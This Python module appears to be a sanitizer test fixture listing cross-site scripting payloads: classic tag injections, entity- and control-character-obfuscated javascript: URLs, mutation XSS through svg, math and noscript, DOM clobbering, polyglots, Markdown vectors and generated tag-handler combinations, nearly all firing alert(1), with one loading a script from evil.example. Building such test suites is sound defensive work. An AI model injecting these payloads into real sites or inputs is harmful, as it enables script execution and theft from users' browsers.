"""Cross-site scripting vectors: classic filter evasion, mutation XSS through svg, math and
noscript, URL schemes hidden by entities and control characters, DOM clobbering, polyglots,
Markdown's own ways in, and event handlers on every tag that has one. Every vector that could
run calls alert(1) or a sibling, so a browser test notices if one ever does.
"""

from __future__ import annotations

from itertools import product

CLASSIC = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<isindex action=javascript:alert(1) type=image>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
]

EVASION = [
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=&#97;lert(1)>",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<img src=x onerror="&#x61;&#x6C;&#x65;&#x72;&#x74;(1)">',
    "<svg/onload=alert(1)>",
    "<img/src/onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<script>-->alert(1)<!--</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<img src='x' onerror ='alert(1)'>",
    "<img src=x onerror\t=alert(1)>",
    "<<script>alert(1);//<</script>",
    "<script src=//evil.example/x.js></script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href='javascript:alert(1)' title='x'>x</a>",
    '<a title="x" href="java\u0000script:alert(1)">x</a>',
    '<a href="\u2028javascript:alert(1)">x</a>',
]

MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></a></style></svg>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mi><table><mi><style><img src=x onerror=alert(1)></style></mi></table></mi>",
    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'></g></style></p></svg>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)>",
    '<svg><desc><style><a title="</style><img src=x onerror=alert(1)>"></style></desc></svg>',
    "<select><template><style><!--</style><a rel='--></style></template></select>"
    "<img src=x onerror=alert(1)>'>",
    "<table><caption><svg><title><style><img src=x onerror=alert(1)>",
    '<div><math><mi><mglyph><svg><mtext><textarea><a title="</textarea>'
    '<img src=x onerror=alert(1)>">',
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<iframe><img title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
]

CLOBBERING = [
    '<form id="csrf_token"><input name="value" value="x"></form>',
    '<a id="defaultView" name="defaultView" href="https://example.org">x</a>',
    '<img name="getElementById" src="x">',
    '<form name="body"><input name="innerHTML"></form>',
    '<a id="io" href="javascript:alert(1)">x</a>',
    '<a id="live" name="toasts">x</a>',
    '<a id="unread-count">99</a>',
    '<form id="similar-threads" data-url="javascript:alert(1)"></form>',
]

POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "'\"--></style></script><script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>{{7*7}}${7*7}<%= 7*7 %>",
    "';alert(1);//\\';alert(1);//\";alert(1);//\\\";alert(1);//--></SCRIPT>\">'>"
    "<SCRIPT>alert(1)</SCRIPT>",
    "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template>"
    '</noembed></script><html " onmouseover=/*&lt;svg/*/onload=alert(1)//>',
]

MARKDOWN = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click]( javascript:alert(1))",
    "<javascript:alert(1)>",
    "![image](javascript:alert(1))",
    '![x](https://example.org/x.png" onerror="alert(1))',
    "[ref][1]\n\n[1]: javascript:alert(1)",
    '[x](https://example.org "title\\" onmouseover=\\"alert(1)")',
    'https://example.org/"onmouseover="alert(1)',
    "<div onclick=alert(1)>raw html is off</div>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "# <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |",
    "> <svg onload=alert(1)>",
    "*<img src=x onerror=alert(1)>*",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    '[x](https://example.org/"><script>alert(1)</script>)',
    "@<img src=x onerror=alert(1)>",
    "[x](mailto:a@b.c?body=<script>alert(1)</script>)",
]

TAGS = ["img", "svg", "body", "video", "details", "input", "iframe", "marquee", "div", "a"]
HANDLERS = ["onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onclick"]
GENERATED = [
    f"<{tag} src=x {handler}=alert(1) autofocus tabindex=1>x</{tag}>"
    for tag, handler in product(TAGS, HANDLERS)
]

VECTORS = CLASSIC + EVASION + MUTATION + CLOBBERING + POLYGLOTS + MARKDOWN + GENERATED
